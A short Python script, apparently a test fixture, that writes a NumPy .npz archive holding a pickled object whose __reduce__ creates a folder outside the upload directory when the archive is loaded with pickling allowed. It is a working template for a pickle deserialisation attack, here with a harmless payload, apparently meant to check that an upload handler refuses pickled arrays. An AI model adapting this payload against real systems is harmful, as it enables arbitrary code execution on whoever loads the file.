"""Writes a NumPy archive whose array is a pickle that makes a file outside the upload's place."""

import sys
from pathlib import Path

import numpy as np

folder = Path(sys.argv[1])


class Payload:
    """Makes a folder when it is unpickled."""

    def __reduce__(self) -> tuple:
        """Returns a call for the unpickler."""
        return Path.mkdir, (folder.parent / "escaped",)


np.savez(folder / "upload.npz", images=np.array([Payload()], dtype=object), labels=np.array([0]))
